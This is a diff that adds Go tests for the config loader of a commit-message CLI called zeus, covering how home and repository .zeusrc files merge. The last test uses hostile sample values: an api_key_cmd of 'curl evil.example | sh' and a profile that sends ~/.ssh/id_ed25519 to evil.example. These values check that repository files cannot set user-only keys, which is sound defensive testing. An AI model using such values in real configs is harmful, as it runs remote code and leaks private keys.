@@ -5,6 +5,7 @@ import (
 	"path/filepath"
 	"testing"
 
+	"github.com/spf13/pflag"
 	"github.com/spf13/viper"
 	"github.com/stretchr/testify/require"
 )
@@ -200,3 +201,225 @@ func TestLoadDefaultValues(t *testing.T) {
 	require.Equal(t, "mistral", cfg.Model, "Wrong default Model")
 	require.Equal(t, "conventional", cfg.DefaultStyle, "Wrong default Style")
 }
+
+// setupConfigDirs creates a home directory and a repository directory holding
+// the given .zeusrc contents, skipping empty ones, points HOME at the first
+// and changes into the second until the test ends
+func setupConfigDirs(t *testing.T, homeConfig, repoConfig string) (homeDir, repoDir string) {
+	t.Helper()
+
+	tmpDir := t.TempDir()
+	homeDir = filepath.Join(tmpDir, "home")
+	repoDir = filepath.Join(tmpDir, "repo")
+	require.NoError(t, os.MkdirAll(homeDir, 0o755))
+	require.NoError(t, os.MkdirAll(repoDir, 0o755))
+
+	if homeConfig != "" {
+		require.NoError(t, os.WriteFile(filepath.Join(homeDir, ".zeusrc"), []byte(homeConfig), 0o644))
+	}
+	if repoConfig != "" {
+		require.NoError(t, os.WriteFile(filepath.Join(repoDir, ".zeusrc"), []byte(repoConfig), 0o644))
+	}
+
+	t.Setenv("HOME", homeDir)
+
+	currentDir, err := os.Getwd()
+	require.NoError(t, err, "Failed to get current directory")
+	require.NoError(t, os.Chdir(repoDir))
+	t.Cleanup(func() { os.Chdir(currentDir) })
+
+	return homeDir, repoDir
+}
+
+func TestRepoPolicyOverridesHomePolicy(t *testing.T) {
+	viper.Reset()
+
+	homeConfig := `
+policy:
+  allowed_providers: [ollama, openrouter]
+  network: any
+`
+	repoConfig := `
+policy:
+  allowed_providers: [ollama]
+  network: local-only
+`
+	_, repoDir := setupConfigDirs(t, homeConfig, repoConfig)
+
+	cfg, err := Load()
+	require.NoError(t, err, "Failed to load config")
+
+	require.Equal(t, []string{"ollama"}, cfg.Policy.AllowedProviders, "Repo policy should win")
+	require.Equal(t, NetworkLocalOnly, cfg.Policy.Network, "Repo policy should win")
+	require.Equal(t, filepath.Join(repoDir, ".zeusrc"), cfg.Policy.Source)
+}
+
+func TestTrailersCombineHomeAndRepoFiles(t *testing.T) {
+	homeConfig := `
+trailers: "Reviewed-by: Jane Doe <jane@example.com>"
+`
+	repoConfig := `
+roster: team.yaml
+trailers:
+  - "Team: payments"
+`
+	setupConfigDirs(t, homeConfig, repoConfig)
+
+	cfg, err := Load()
+	require.NoError(t, err, "Failed to load config")
+
+	require.Equal(t, []string{"Reviewed-by: Jane Doe <jane@example.com>", "Team: payments"}, cfg.Trailers, "Home trailers come first")
+	require.Equal(t, "team.yaml", cfg.Roster)
+}
+
+func TestRepoTicketsOverrideHomeTickets(t *testing.T) {
+	homeConfig := `
+tickets:
+  patterns: ['#(\d+)']
+  placement: prefix
+`
+	repoConfig := `
+tickets:
+  patterns: ['(?P<ticket>[A-Z]+-\d+)']
+  required_branches: feature/*
+`
+	_, repoDir := setupConfigDirs(t, homeConfig, repoConfig)
+
+	cfg, err := Load()
+	require.NoError(t, err, "Failed to load config")
+
+	require.Equal(t, Tickets{
+		Patterns:         []string{`(?P<ticket>[A-Z]+-\d+)`},
+		Placement:        PlacementPrefix,
+		Trailer:          "Refs",
+		RequiredBranches: []string{"feature/*"},
+	}, cfg.Tickets, "Repo keys should replace home keys, others keep their value")
+
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, ".zeusrc"), []byte("tickets:\n  patterns: ['(']\n"), 0o644))
+	_, err = Load()
+	require.Error(t, err, "Invalid patterns should be rejected")
+}
+
+func TestScopes(t *testing.T) {
+	homeConfig := `
+scopes:
+  detect: false
+`
+	repoConfig := `
+scopes:
+  rules: services/billing/**=billing
+`
+	homeDir, repoDir := setupConfigDirs(t, homeConfig, repoConfig)
+
+	cfg, err := Load()
+	require.NoError(t, err, "Failed to load config")
+	require.Equal(t, Scopes{Rules: []string{"services/billing/**=billing"}, Detect: false}, cfg.Scopes)
+
+	require.NoError(t, os.WriteFile(filepath.Join(homeDir, ".zeusrc"), nil, 0o644))
+	cfg, err = Load()
+	require.NoError(t, err, "Failed to load config")
+	require.True(t, cfg.Scopes.Detect, "Detection is on by default")
+
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, ".zeusrc"), []byte("scopes:\n  rules: [billing]\n"), 0o644))
+	_, err = Load()
+	require.Error(t, err, "Rules without a scope should be rejected")
+}
+
+func TestRepoFileOverridesHomeFile(t *testing.T) {
+	homeConfig := `
+provider: openrouter
+model: home-model
+editor: vim
+sign_by_default: true
+`
+	repoConfig := `
+model: repo-model
+auto_stage: true
+`
+	setupConfigDirs(t, homeConfig, repoConfig)
+	t.Setenv("ZEUS_EDITOR", "nano")
+
+	cfg, err := Load()
+	require.NoError(t, err, "Failed to load config")
+
+	require.Equal(t, "openrouter", cfg.Provider, "Home file value should apply when the repo file does not set it")
+	require.Equal(t, "repo-model", cfg.Model, "Repo file should override home file")
+	require.Equal(t, "nano", cfg.Editor, "Environment variable should override config files")
+	require.True(t, cfg.Signoff, "sign_by_default should still set signoff")
+	require.True(t, cfg.AutoStage, "Wrong auto_stage value")
+}
+
+func TestConfigDefaultsApplyWhenFlagsNotSet(t *testing.T) {
+	configContent := `
+default_style: simple
+include_body: true
+sign_by_default: true
+`
+	setupConfigDirs(t, "", configContent)
+
+	newFlags := func() *pflag.FlagSet {
+		fs := pflag.NewFlagSet("suggest", pflag.ContinueOnError)
+		fs.Bool("body", false, "")
+		fs.Bool("sign", false, "")
+		fs.Bool("dry-run", false, "")
+		fs.String("style", "conventional", "")
+		return fs
+	}
+
+	// Flags left at their defaults must not override the config file
+	cfg, err := Load()
+	require.NoError(t, err, "Failed to load config")
+	fs := newFlags()
+	require.NoError(t, fs.Parse(nil))
+	require.NoError(t, cfg.ApplyFlags(fs))
+	require.Equal(t, "simple", cfg.DefaultStyle, "Config default_style should apply when --style is not set")
+	require.True(t, cfg.IncludeBody, "Config include_body should apply when --body is not set")
+	require.True(t, cfg.Signoff, "Config sign_by_default should apply when --sign is not set")
+	require.False(t, cfg.DryRun, "Wrong dry_run value")
+
+	// Explicit flags win over config and environment
+	t.Setenv("ZEUS_DEFAULT_STYLE", "simple")
+	cfg, err = Load()
+	require.NoError(t, err, "Failed to load config")
+	fs = newFlags()
+	require.NoError(t, fs.Parse([]string{"--style", "conventional", "--sign=false", "--dry-run"}))
+	require.NoError(t, cfg.ApplyFlags(fs))
+	require.Equal(t, "conventional", cfg.DefaultStyle, "--style should override config")
+	require.False(t, cfg.Signoff, "--sign=false should override config")
+	require.True(t, cfg.DryRun, "--dry-run should apply")
+}
+
+func TestLoadRejectsInvalidValues(t *testing.T) {
+	setupConfigDirs(t, "", "")
+	t.Setenv("ZEUS_AUTO_STAGE", "sometimes")
+
+	_, err := Load()
+	require.ErrorContains(t, err, "ZEUS_AUTO_STAGE")
+}
+
+func TestUserOnlySettingsRejectedInRepoFile(t *testing.T) {
+	homeConfig := `
+api_key_cmd: pass show openrouter
+base_url: http://localhost:11434
+`
+	_, repoDir := setupConfigDirs(t, homeConfig, "api_key_cmd: curl evil.example | sh\n")
+
+	_, err := Load()
+	require.ErrorContains(t, err, "api_key_cmd can only be set in ~/.zeusrc")
+
+	profileConfig := `
+profiles:
+  leak:
+    api_key_file: ~/.ssh/id_ed25519
+    base_url: https://evil.example
+`
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, ".zeusrc"), []byte(profileConfig), 0o644))
+	_, err = Load()
+	require.ErrorContains(t, err, "profiles.leak.")
+
+	require.NoError(t, os.WriteFile(filepath.Join(repoDir, ".zeusrc"), []byte("model: repo-model\n"), 0o644))
+	cfg, err := Load()
+	require.NoError(t, err, "The home file may set them")
+	require.Equal(t, "pass show openrouter", cfg.APIKeyCmd)
+	require.Equal(t, "http://localhost:11434", cfg.BaseURL)
+}